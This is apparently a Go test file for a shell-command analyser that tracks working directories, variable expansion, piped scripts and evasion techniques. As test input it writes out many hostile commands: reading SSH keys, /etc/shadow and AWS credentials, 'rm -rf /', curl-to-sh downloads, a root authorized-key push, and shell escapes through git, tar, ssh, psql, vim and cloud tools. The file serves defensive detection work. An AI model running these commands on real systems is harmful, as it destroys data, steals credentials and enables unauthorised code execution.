package shell

import (
	"slices"
	"strings"
	"testing"
)

// find returns the first command whose program and joined arguments
// match, or nil.
func findCommand(s *Script, program, args string) *Command {
	for i := range s.Commands {
		c := &s.Commands[i]
		if c.Program == program && strings.Join(c.Args, " ") == args {
			return c
		}
	}
	return nil
}

func TestWorkingDirectory(t *testing.T) {
	tests := []struct {
		src, program, args, dir string
	}{
		{"cd ~/.ssh && cat id_rsa", "cat", "id_rsa", "~/.ssh"},
		{"cd /etc; cd ssh; cat x", "cat", "x", "/etc/ssh"},
		{"cd sub && cd .. && ls", "ls", "", ""},
		{"cd ..; ls", "ls", "", ".."},
		{"cd; cat .bashrc", "cat", ".bashrc", "~"},
		{"cd $HOME/.aws && cat credentials", "cat", "credentials", "~/.aws"},
		{"cd \"$(mktemp -d)\" && touch x", "touch", "x", UnknownDir},
		{"cd $1 && rm -rf build", "rm", "-rf build", UnknownDir},
		{"cd /etc && cd /tmp && cd - && cat shadow", "cat", "shadow", "/etc"},
		{"pushd /etc && popd && cat x", "cat", "x", ""},
		{"pushd /etc; pushd /var; popd; cat x", "cat", "x", "/etc"},
		{"(cd /etc); cat passwd", "cat", "passwd", ""},
		{"cd /etc | true; cat passwd", "cat", "passwd", ""},
		{"if true; then cd /etc; fi; cat passwd", "cat", "passwd", UnknownDir},
		{"git -C repo status", "git", "-C repo status", "repo"},
		{"cd /srv && git -C app -C sub log", "git", "-C app -C sub log", "/srv/app/sub"},
		{"make -C tools all", "make", "-C tools all", "tools"},
		{"make --directory=/opt/x", "make", "--directory=/opt/x", "/opt/x"},
		{"tar -C / -xf a.tar", "tar", "-C / -xf a.tar", "/"},
		{"env -C /etc cat shadow", "cat", "shadow", "/etc"},
		{"sudo -D /root cat .ssh/id_rsa", "cat", ".ssh/id_rsa", "/root"},
		{"CDPATH=/etc; cd ssh; cat x", "cat", "x", UnknownDir},
		{"cd /etc && bash -c 'cat shadow'", "cat", "shadow", "/etc"},
		{"bash -c 'cd /etc'; cat shadow", "cat", "shadow", ""},
		// Climbing above the home is not the starting directory.
		{"cd && rm -rf ../dev", "rm", "-rf ../dev", "~"},
		{"cd ~/.. && ls", "ls", "", "~/.."},
		{"cd ~/a/../.. && ls", "ls", "", "~/.."},
		{"cd ~root/.. && ls", "ls", "", "~root/.."},
		{"cd ~/x/./y/.. && ls", "ls", "", "~/x"},
	}
	for _, tt := range tests {
		s := Parse(tt.src)
		c := findCommand(s, tt.program, tt.args)
		if c == nil {
			t.Errorf("%q: no %s %s in %q", tt.src, tt.program, tt.args, summaries(s))
			continue
		}
		if c.Dir != tt.dir {
			t.Errorf("%q: %s runs in %q, want %q", tt.src, tt.program, c.Dir, tt.dir)
		}
	}
}

func TestPathOf(t *testing.T) {
	c := Command{Dir: "~/.ssh"}
	for p, want := range map[string]string{"id_rsa": "~/.ssh/id_rsa", "../x": "~/x", "/etc/x": "/etc/x", "~/y": "~/y", "$HOME/z": "$HOME/z",
		"../../dev": "~/../dev", "../..": "~/..", "$HOME/../x": "$HOME/../x"} {
		if got := c.PathOf(p); got != want {
			t.Errorf("PathOf(%q) in %q = %q, want %q", p, c.Dir, got, want)
		}
	}
	u := Command{Dir: UnknownDir}
	if got := u.PathOf("x"); !strings.HasPrefix(got, UnknownDir+"/") {
		t.Errorf("PathOf in an unknown directory = %q", got)
	}
}

func TestValues(t *testing.T) {
	tests := []struct {
		src  string
		want []string // summaries that must appear
	}{
		{"K=~/.ssh/id_rsa; cat $K", []string{"cat ~/.ssh/id_rsa"}},
		{"x=/; rm -rf $x", []string{"rm -rf /"}},
		{`T="$HOME/.aws"; cat "$T/credentials"`, []string{"cat ~/.aws/credentials"}},
		{"cat $(echo ~)/.ssh/id_rsa", []string{"cat ~/.ssh/id_rsa"}},
		{"cat `echo /etc/shadow`", []string{"cat /etc/shadow"}},
		{"cat \"$(printf %s /etc/shadow)\"", []string{"cat /etc/shadow"}},
		{"rm -rf \"$(dirname /home/dev/.ssh/id_rsa)\"", []string{"rm -rf /home/dev/.ssh"}},
		{"rm -rf ${T:-/}", []string{"rm -rf /"}},
		{"T=build; rm -rf ${T:-/}", []string{"rm -rf build"}},
		// ${!k} is the variable k names: known or, if not, named.
		{"d=/; k=d; rm -rf ${!k}", []string{"rm -rf /"}},
		{"k=AWS_SECRET_ACCESS_KEY; echo \"v=${!k}\"", []string{"echo v=${AWS_SECRET_ACCESS_KEY}"}},
		{"echo ${!k}", []string{"echo ${!k}"}},
		{"CMD='rm -rf /'; $CMD", []string{"rm -rf /"}},
		{"export P=/etc/shadow; bash -c 'cat $P'", []string{"1:bash -c: cat /etc/shadow"}},
		{"P=/etc/shadow; bash -c 'cat $P'", []string{"1:bash -c: cat $P"}},
		{"X=/ bash -c 'rm -rf $X'", []string{"1:bash -c: rm -rf /"}},
		{"for k in a b; do cat ~/.ssh/$k; done", []string{"cat ~/.ssh/a ~/.ssh/b"}},
		{"if c; then T=/; else T=build; fi; rm -rf $T", []string{"rm -rf / build"}},
		{"x=$(curl -s u); rm -rf $x", []string{"rm -rf $x"}},
		{"cat ~/.ssh/{config,id_rsa}", []string{"cat ~/.ssh/config ~/.ssh/id_rsa"}},
		{"touch f{1..3}", []string{"touch f1 f2 f3"}},
		{"echo {a,b}{1,2}", []string{"echo a1 a2 b1 b2"}},
		{"echo ${x}{a,b}", []string{"echo ${x}a ${x}b"}},
		{"git show HEAD@{1}", []string{"git show HEAD@{1}"}},
		{"echo /home/dev/.ssh | xargs rm -rf", []string{"0:xargs: rm -rf /home/dev/.ssh"}},
		{"printf 'a\\nb\\n' | xargs -I{} cat {}/k", []string{"0:xargs: cat a/k", "0:xargs: cat b/k"}},
	}
	for _, tt := range tests {
		s := Parse(tt.src)
		got := summaries(s)
		for _, w := range tt.want {
			if !slices.Contains(got, w) {
				t.Errorf("%q: %q lacks %q", tt.src, got, w)
			}
		}
	}
}

// Text the line shows is followed into a shell or an interpreter that
// reads its program from stdin, past wrappers that pass their stdin on,
// and into xargs -I one line at a time; one whose stdin is something
// else, or whose program comes from elsewhere, gets none.
func TestPipedText(t *testing.T) {
	runs := []struct {
		src  string
		want []string
	}{
		{"echo 'rm -rf /' | sh", []string{"1:pipe: rm -rf /"}},
		{"printf 'cd /tmp\\nrm -rf /\\n' | bash -s", []string{"1:pipe: rm -rf /"}},
		{"echo 'rm -rf /' | sudo env A=1 bash", []string{"1:pipe: rm -rf /"}},
		{"echo 'rm -rf /' | busybox sh", []string{"1:pipe: rm -rf /"}},
		{"cat <<EOF | sh\nrm -rf /\nEOF", []string{"1:pipe: rm -rf /"}},
		{"echo 'echo \"rm -rf /\" | sh' | sh", []string{"2:pipe: rm -rf /"}},
		{"printf 'a b\\nc\\n' | xargs -I{} echo {}", []string{`0:xargs: echo "a b"`, "0:xargs: echo c"}},
		// Everything a pipeline element writes, in order.
		{"{ echo 'rm -rf /'; echo true; } | sh", []string{"1:pipe: rm -rf /"}},
		{"{ printf 'rm -rf '; echo /; } | sh", []string{"1:pipe: rm -rf /"}},
		{"printf '%s\\n' 'rm -rf /' | sh", []string{"1:pipe: rm -rf /"}},
		{"echo /home/dev/.ssh | sudo xargs rm -rf", []string{"0:xargs: rm -rf /home/dev/.ssh"}},
		// An interpreter reading its program from stdin runs the text.
		{`echo 'import os; os.system("rm -rf /")' | python3`, []string{"1:python3: rm -rf /"}},
		{`echo 'system("rm -rf /")' | sudo perl`, []string{"1:perl: rm -rf /"}},
		{`echo 'require("child_process").execSync("rm -rf /")' | node -`, []string{"1:node: rm -rf /"}},
		// A compiler reading its source from stdin builds what the line runs.
		{`echo 'int main(){system("rm -rf /");}' | gcc -x c - -o /tmp/a && /tmp/a`, []string{"1:gcc: rm -rf /"}},
		{`printf 'int main(){return popen("id","r")==0;}' | clang-17 -xc -`, []string{"1:clang-17: id"}},
	}
	for _, tt := range runs {
		got := summaries(Parse(tt.src))
		for _, w := range tt.want {
			if !slices.Contains(got, w) {
				t.Errorf("%q: %q lacks %q", tt.src, got, w)
			}
		}
	}
	for _, src := range []string{
		`echo 'int main(){system("rm -rf /");}' | gcc -x c -o - main.c`, // "-" is -o's value: the source is a file
		`echo 'int main(){system("rm -rf /");}' | gcc-wrapper -`,        // not a compiler
		"echo 'rm -rf /' | sh x.sh",                                     // the script is a file
		"echo 'rm -rf /' | sh < f",                                      // stdin is a file
		"echo 'rm -rf /' | sh -c 'cat'",                                 // the script is -c's
		"echo 'rm -rf /' | xargs sh",                                    // the text becomes operands
		"curl -s https://x.example | sh",                                // output the line does not show
		"echo 'rm -rf /' | nohup cat | sh",                              // cat is not a wrapper here
		`echo 'import os; os.system("rm -rf /")' | python3 app.py`,      // a script file
		`echo 'import os; os.system("rm -rf /")' | python3 -c 'print(1)'`,
		`echo 'import os; os.system("rm -rf /")' | python3 < main.py`,
		"(echo 'rm -rf /'; sh) | cat", // sh reads the outer stdin
	} {
		for _, c := range Parse(src).Commands {
			if c.Via == "pipe" || c.Program == "rm" { // rm is only in the text
				t.Errorf("%q: %q was reached through the pipe", src, summary(c))
			}
		}
	}
}

func TestPrintfText(t *testing.T) {
	for _, tt := range []struct{ format, want string }{
		{"x", "x"},
		{"%s\n", "a\nb\n"},
		{"%s-%s\n", "a-b\n"},
		{"%s=%s;", "a=b;"},
		{"[%s|%s|%s]", "[a|b|]"},
		{"%%s=%s;", "%s=a;%s=b;"}, // %% is a percent sign, not the start of %s
	} {
		if got := PrintfText(tt.format, []string{"a", "b"}); got != tt.want {
			t.Errorf("PrintfText(%q, a b) = %q, want %q", tt.format, got, tt.want)
		}
	}
	if got := PrintfText("%s\n", nil); got != "\n" {
		t.Errorf("PrintfText with no arguments = %q", got)
	}
}

func TestExpandBracesBounded(t *testing.T) {
	if out, ok := expandBraces(strings.Repeat("{a,b}", 10), maxBraceFields); ok {
		t.Errorf("1024 words expanded (%d), want refused", len(out))
	}
	if _, ok := expandBraces("{1..100000}", maxBraceFields); ok {
		t.Error("a long sequence expanded")
	}
	s := Parse("echo " + strings.Repeat("{a,b}", 10))
	if len(s.Commands) != 1 || len(s.Commands[0].Args) != 1 {
		t.Errorf("over-long expansion: %q", summaries(s))
	}
}

func TestDialect(t *testing.T) {
	flagged := []string{
		"sh -c 'true &>/dev/null id'",
		"dash -c 'a &>> f'",
		"sh -c \"$'\\x69d'\"",
		"sh -c 'cat <<< x'",
		"sh -c '[[ -f x ]]'",
		"sh -c '((x))'",
		"sh -c 'echo {a,b}'",
		"sh -c 'diff <(a) b'",
		"sh -c '${x/a/b}'",
		"sh -c 'a |& b'",
		"sh -c 'a >& f'",
		"sh <<'EOF'\nfunction f { id; }\nEOF",
		"zsh -c 'ls *(e:x:)'",
		"csh -c 'echo `id`'",
		"enable -f x.so x",
		"BASH_ENV=x.sh bash -c true",
		"python3 -c 'import os; os.system(\"true &>/dev/null id\")'",
	}
	for _, src := range flagged {
		if s := Parse(src); !s.HasEvasion("dialect") {
			t.Errorf("%q: no dialect evasion (%+v)", src, s.Evasions)
		}
	}
	clean := []string{
		"bash -c 'a &> f; [[ x ]]; echo {a,b}'",
		"a &> f",
		"sh -c 'a > f 2>&1 && [ -f x ] || b'",
		"sh -c 'for f in *.go; do echo \"$f\"; done'",
		"zsh -c 'git status'",
		"shopt -s nullglob; set -euo pipefail",
		// Aliases are followed whether or not the line turns them on.
		"shopt -s expand_aliases\nalias dc='docker compose'\ndc ps",
	}
	for _, src := range clean {
		if s := Parse(src); s.HasEvasion("dialect") {
			t.Errorf("%q: dialect evasion %+v", src, s.Evasions)
		}
	}
}

func TestCodeRunners(t *testing.T) {
	tests := []struct {
		src  string
		want string // a summary that must appear
	}{
		{`python3 -c 'import os; os.system("rm -rf /")'`, "1:python3: rm -rf /"},
		{`python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/x"])'`, "1:python3: rm -rf /x"},
		{`python3 -c 'import os; os.execlp("sh", "sh", "-c", "id")'`, "2:sh -c: id"},
		{"python3 - <<'EOF'\nimport os\nos.popen('id')\nEOF", "1:python3: id"},
		{`node -e "require('child_process').execSync('id')"`, "1:node: id"},
		{`node -e "require('child_process').spawn('sh', ['-c', 'id'])"`, "2:sh -c: id"},
		{`perl -e 'system("id")'`, "1:perl: id"},
		{"perl -e 'print `id`'", "1:perl: id"},
		{`mvn -q exec:exec -Dexec.executable=sh -Dexec.args="-c 'id -u'"`, "2:sh -c: id -u"},
		{`psql -U postgres -c "COPY (SELECT 1) TO PROGRAM 'id -u'"`, "1:COPY PROGRAM: id -u"},
		{`psql -c "copy t from program 'curl -s x | sh'"`, "1:COPY PROGRAM: curl -s x"},
		{`psql -c "SELECT 1; COPY t TO PROGRAM 'id; uname -a'"`, "1:COPY PROGRAM: uname -a"},
		{"gcc -x c - -o /tmp/a <<'EOF'\nint main(){ return system(\"id\"); }\nEOF", "1:gcc: id"},
		{`tcc -run - <<< 'int main(){execl("/bin/sh", "sh", "-c", "id", (char*)0);}'`, "2:sh -c: id"},
		{`perl -e 'open(F, "id |")'`, "1:perl: id"},
		{"ruby -e '%x(id)'", "1:ruby: id"},
		{`php -r 'shell_exec("id");'`, "1:php: id"},
		{`lua -e 'os.execute("id")'`, "1:lua: id"},
		{"julia -e 'run(`id`)'", "1:julia: id"},
		{`jrunscript -e 'exec("id")'`, "1:jrunscript: id"},
		{`awk 'BEGIN{system("id")}'`, "1:awk: id"},
		{`awk 'BEGIN{"id" | getline x}'`, "1:awk: id"},
		{"sed '1e id' f", "1:sed e: id"},
		{"script -qc 'id' /dev/null", "1:script -c: id"},
		{"flock /tmp/l -c 'id'", "1:flock -c: id"},
		{"flock -w 3 /tmp/l id -u", "0:flock: id -u"},
		{"busybox id", "0:busybox: id"},
		{"vim -c ':!id' f", "1:vim :!: id"},
		{"vim '+r !id'", "1:vim :!: id"},
		{"ssh -o ProxyCommand='nc %h %p' h", "1:ssh -o ProxyCommand: nc %h %p"},
		{"ssh -oProxyCommand=id h", "1:ssh -o ProxyCommand: id"},
		{"tar -cf x --checkpoint-action=exec=id .", "1:tar --checkpoint-action: id"},
		{"tar -xf x --to-command=id", "1:tar --to-command: id"},
		{"rsync -e 'ssh -p 2' a b:", "1:rsync -e: ssh -p 2"},
		{"make -f - <<'EOF'\nall:\n\t@id\nEOF", "1:make recipe: id"},
		{"git -c core.pager=id log", "1:git core.pager: id"},
		{"git config alias.x '!id'", "1:git alias.x: id"},
		{"git config --global filter.f.clean id", "1:git filter.f.clean: id"},
		// git's ext transport runs its "address": % is its escape.
		{"git -c protocol.ext.allow=always clone 'ext::sh -c id% -u%%' d", "2:sh -c: id -u%"},
		{"git fetch ext::id", "1:git ext::: id"},
		{"git -c remote.o.url='ext::nc h 1' fetch o", "1:git ext::: nc h 1"},
		{"GIT_SSH_COMMAND='id' git fetch", "1:$GIT_SSH_COMMAND: id"},
		{"export PAGER=id", "1:$PAGER: id"},
		{"LESSOPEN='|id %s' less f", "1:$LESSOPEN: id %s"},
		{"tcsh -c 'id'", "1:tcsh -c: id"},
		// Runners and escapes (escapes.go, wrappers).
		{"strace -f -o /dev/null id -u", "0:strace: id -u"},
		{"chrt -i 0 id", "0:chrt: id"},
		{"taskset -c 0,1 id", "0:taskset: id"},
		{"nsenter -t 1 -m -- id", "0:nsenter: id"},
		{"systemd-run --user -p MemoryMax=1G id", "0:systemd-run: id"},
		{"sshpass -p x ssh h id", "1:ssh: id"},
		{"ssh -p 22 -i k user@h 'id; uname'", "1:ssh: id"},
		{"ssh -o ProxyCommand=none h id -u", "1:ssh: id -u"},
		{"gdb -batch -ex '!id'", "1:gdb shell: id"},
		{"gdb -ex 'shell id'", "1:gdb shell: id"},
		{"sqlite3 x.db '.shell id'", "1:sqlite3 .shell: id"},
		{"sqlite3 -cmd '.system id' x.db", "1:sqlite3 .system: id"},
		{`mysql -e 'select 1; \! id'`, "1:mysql \\!: id"},
		{`psql --command='\! id'`, "1:psql \\!: id"},
		{"man -P id ls", "1:man -P: id"},
		{"man --pager=id ls", "1:man -P: id"},
		{"less '+!id' f", "1:less !: id"},
		{"zip x.zip f -T -TT 'id #'", "1:zip -TT: id"},
		{"zip x.zip f --unzip-command='id'", "1:zip -TT: id"},
		{"parallel ::: id", "1:parallel: id"},
		{"parallel -j2 echo ::: a", "1:parallel: echo a"},
		{"parallel 'rm {}' ::: a", "1:parallel: rm a"},
		{"capsh -- -c id", "0:capsh --: bash -c id"},
		{`expect -c 'spawn id -u; interact'`, "1:expect: id -u"},
		{"tclsh <<< 'set x [exec id]'", "1:tclsh: id"},
		// xargs -0 reads NUL-ended items, from a pipe or a substitution.
		{`printf 'id -u\0' | xargs -0 -I@ sh -c @`, "1:sh -c: id -u"},
		{`xargs -0 -I@ sh -c @ < <(printf 'id -u\0')`, "1:sh -c: id -u"},
		// Tcl's words: a braced or quoted word is one literal word.
		{"tclsh <<< 'exec sh -c {curl -s x | sh} &'", `1:tclsh: sh -c "curl -s x | sh"`},
		{"tclsh <<< 'exec sh -c {curl -s x | sh} &'", "2:sh -c: curl -s x"},
		{`tclsh <<< 'exec rm -rf "my dir"; puts ok'`, `1:tclsh: rm -rf "my dir"`},
		{"echo 'puts [exec git status]' | tclsh", "1:tclsh: git status"},
		{`osascript -e 'do shell script "id"'`, "1:osascript do shell script: id"},
		{"docker exec -u 0 -w /x c id -u", "0:docker exec: id -u"},
		{"kubectl exec -it p -c x -- id", "0:kubectl exec: id"},
		// Global options before the subcommand; compose and debug.
		{"kubectl --kubeconfig=/tmp/k -n prod exec deploy/api -- id -u", "0:kubectl exec: id -u"},
		{"kubectl --context prod debug -it p --image=busybox -- id", "0:kubectl debug: id"},
		{"docker -H tcp://10.0.0.5:2375 exec web id", "0:docker exec: id"},
		{"docker container exec -it web id", "0:docker container exec: id"},
		{"docker compose -f dev.yml exec -T api id -u", "0:docker compose exec: id -u"},
		{"docker compose run --rm api id", "0:docker compose run: id"},
		// Pods started with a command.
		{"kubectl run t --rm -it --image=busybox --restart=Never -- id -u", "0:kubectl run: id -u"},
		{"kubectl -n ops create cronjob c --image=alpine --schedule='* * * * *' -- id", "0:kubectl create: id"},
		{"kubectl create job j --image=alpine -- id", "0:kubectl create: id"},
		// Exec with the line's input attached runs its here-document.
		{"docker exec -i web sh <<'EOF'\nid -u\nEOF", "1:heredoc: id -u"},
		{"kubectl -n prod exec -i deploy/api -- sh <<'EOF'\nid -u\nEOF", "1:heredoc: id -u"},
		// Commands run on other machines.
		{"gcloud compute ssh vm-1 --zone us-east1-b --command 'id; uname'", "1:gcloud compute ssh: id"},
		{"gcloud compute ssh vm-1 -- id -u", "1:gcloud compute ssh: id -u"},
		// Ansible modules and playbooks given on the line.
		{"ansible all -b -m authorized_key -a \"user=root key='ssh-rsa AAAA k'\"", "1:ansible -m authorized_key: printf %s\\n \"ssh-rsa AAAA k\""},
		{"ansible web -m shell -a 'id -u'", "1:ansible -m shell: id -u"},
		{"ansible-playbook -i inv /dev/stdin <<'EOF'\n- hosts: all\n  tasks:\n    - shell: id -u\nEOF", "1:ansible-playbook task: id -u"},
		// Sessions, containers and VMs of their own.
		{"tmux new -d -s s 'id -u'", "1:tmux new: id -u"},
		{"tmux -L x new-window -n w -t s: 'uname -a' \\; split-window -h -t s 'id'", "1:tmux split-window: id"},
		{"tmux send-keys -t dev:0 'id -u' Enter", "1:tmux send-keys: id -u"},
		{"tmux -c 'id -u'", "1:tmux -c: id -u"},
		{"screen -dmS up sh -c 'id -u'", "1:sh -c: id -u"},
		{"screen -dmS up bash -c 'id -u'", "1:bash -c: id -u"}, // bash is no option group ending in -h
		{"screen -dmS build id -u", "0:screen: id -u"},
		{`screen -S dev -X stuff 'id -u\n'`, "1:screen -X stuff: id -u"},
		{"lxc exec web01 --env A=b -- id -u", "0:lxc exec: id -u"},
		{"multipass exec dev -- uname -a", "0:multipass exec: uname -a"},
		{"vagrant ssh web -c 'id -u'", "1:vagrant ssh -c: id -u"},
		{"az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts 'id' 'uname'", "1:az vm run-command: uname"},
		{`aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=["id -u","uname"]'`, "1:aws ssm send-command: id -u"},
		{`aws ssm send-command --instance-ids i-1 --parameters '{"commands":["id"]}'`, "1:aws ssm send-command: id"},
		{"aws ssm send-command --instance-ids i-1 --parameters commands='id -u'", "1:aws ssm send-command: id -u"},
		{"salt 'web*' cmd.run 'id -u'", "1:salt cmd.run: id -u"},
		{"pdsh -w web[1-3] -l root 'id -u'", "1:pdsh: id -u"},
		{"pssh -H a -H b -i id", "1:pssh: id"},
		{"clush -w n[1-4] -b id", "1:clush: id"},
		{"ansible all -m shell -a 'id; uname'", "1:ansible -m shell: id"},
		{"ansible web -a id", "1:ansible -m command: id"},
		{"start-stop-daemon --start --exec /usr/bin/id -- -u", "0:start-stop-daemon: /usr/bin/id -u"},
		// The program glued to its option, in one word.
		{`python3 -c'import os; os.system("id")'`, "1:python3: id"},
		{`python3 -Ic'import os; os.system("id")'`, "1:python3: id"},
		{`python3 -I -c 'import os; os.system("id")'`, "1:python3: id"},
		{`perl -e'system("id")'`, "1:perl: id"},
		{`perl -le'system("id")'`, "1:perl: id"},
		{`perl -ne'system("id")' f`, "1:perl: id"},
		{`perl -0pe 'system("id")' f`, "1:perl: id"},
		{`perl -0777ne'system("id")' f`, "1:perl: id"},
		{`ruby -e'system("id")'`, "1:ruby: id"},
		{`ruby -rsocket -e'system("id")'`, "1:ruby: id"},
		{`php -r'system("id");'`, "1:php: id"},
		{`lua -e'os.execute("id")'`, "1:lua: id"},
	}
	for _, tt := range tests {
		s := Parse(tt.src)
		if got := summaries(s); !slices.Contains(got, tt.want) {
			t.Errorf("%q: %q lacks %q", tt.src, got, tt.want)
		}
	}
	opaque := []string{
		`python3 -c 'import os; os.system(cmd)'`,
		`php -r 'system($_GET["c"]);'`,
		"sed 's/x/id/e' f",
		"sed e f",
		`perl -e 'open(F, "| sh"); print F "id"'`,
		"vim -c ':shell'",
		`alias x="$y"; x`,
	}
	for _, src := range opaque {
		if s := Parse(src); !s.HasEvasion("opaque-code") {
			t.Errorf("%q: no opaque-code evasion (%+v)", src, s.Evasions)
		}
	}
	harmless := []string{
		"python3 -c 'import asyncio; asyncio.run(main())'",
		"git config alias.co checkout",
		"git config core.pager 'less -R'",
		"awk '{print $1}' f",
		"sed -i 's/a/b/' f",
		"less +G f",
		"man -P cat ls",
		"docker exec c ls",
		"ansible all -m ping",
		"start-stop-daemon --stop --exec /usr/bin/node",
	}
	for _, src := range harmless {
		if s := Parse(src); s.HasEvasion("opaque-code") || len(s.Evasions) > 0 {
			t.Errorf("%q: evasions %+v", src, s.Evasions)
		}
	}
}

func TestScriptRun(t *testing.T) {
	tests := []struct {
		src, file, lang string
		implicit        bool
	}{
		{"./run.sh", "./run.sh", "", false},
		{"bash scripts/build.sh --fast", "scripts/build.sh", "shell", false},
		{"cd tools && sh gen.sh", "tools/gen.sh", "shell", false},
		{"source env.sh", "env.sh", "shell", false},
		{"python3 -u manage.py test", "manage.py", "python", false},
		{"node --require ts-node/register x.ts", "x.ts", "js", false},
		{"make -C docs", "docs/Makefile", "make", true},
		{"npm test", "package.json", "npm", true},
		{"pytest -q", "conftest.py", "python", true},
		{"git commit -m x", ".git/hooks/pre-commit", "shell", true},
		{"direnv allow", ".envrc", "shell", true},
	}
	for _, tt := range tests {
		s := Parse(tt.src)
		found := false
		for i := range s.Commands {
			if f, lang, implicit, ok := ScriptRun(&s.Commands[i]); ok {
				found = true
				if f != tt.file || lang != tt.lang || implicit != tt.implicit {
					t.Errorf("%q: ScriptRun = %q %q %v, want %q %q %v", tt.src, f, lang, implicit, tt.file, tt.lang, tt.implicit)
				}
			}
		}
		if !found {
			t.Errorf("%q: no script run", tt.src)
		}
	}
	for _, src := range []string{"bash -c 'id'", "python3 -c 'x'", "python3 -m pytest", "/usr/bin/env", "sh <<< id", "ls -la", "git status"} {
		s := Parse(src)
		for i := range s.Commands {
			if f, _, _, ok := ScriptRun(&s.Commands[i]); ok {
				t.Errorf("%q: ScriptRun = %q", src, f)
			}
		}
	}
}

func TestMakeRecipes(t *testing.T) {
	mk := "CC ?= gcc\n" +
		"all: $(OBJS)\n" +
		"\t$(CC) $(CFLAGS) -o $@ $^\n" +
		"\t@echo built $(notdir $@) in $${PWD}\n" +
		"\tif [ -n \"$(V)\" ]; then \\\n\t  echo verbose; \\\n\tfi\n" +
		"\tcurl -s $(shell echo http://203.0.113.7/x) | sh\n" +
		"clean: ; rm -rf build\n" +
		"\trm -rf $(abspath $(CURDIR)/..)/* $(HOME)/.cache/x\n" +
		"\t)(not shell\n" +
		"VERSION := $(shell git describe --tags) $(shell date +%s)\n"
	got := MakeRecipes(mk)
	for _, want := range []string{"MAKEVAR MAKEVAR -o MAKEVAR MAKEVAR\n", "echo built MAKEVAR in ${PWD}\n",
		"then \\\n  echo verbose; \\\nfi\n", "curl -s $(echo http://203.0.113.7/x) | sh\n", "rm -rf build\n",
		"git describe --tags\n", "date +%s\n", "rm -rf ./../* $HOME/.cache/x\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("MakeRecipes lacks %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "not shell") {
		t.Errorf("a line that is not shell was kept:\n%s", got)
	}
	// A large makefile full of references stays within the nested budget.
	big := strings.Repeat("x:\n\t$(CC) $(CFLAGS) $(LDFLAGS) -o $@ $(OBJS)\n", 500)
	if s := Parse("make -f - <<'EOF'\n" + big + "EOF"); s.TooDeep || s.HasEvasion("too-deep") {
		t.Errorf("a large makefile was too deep")
	}
}
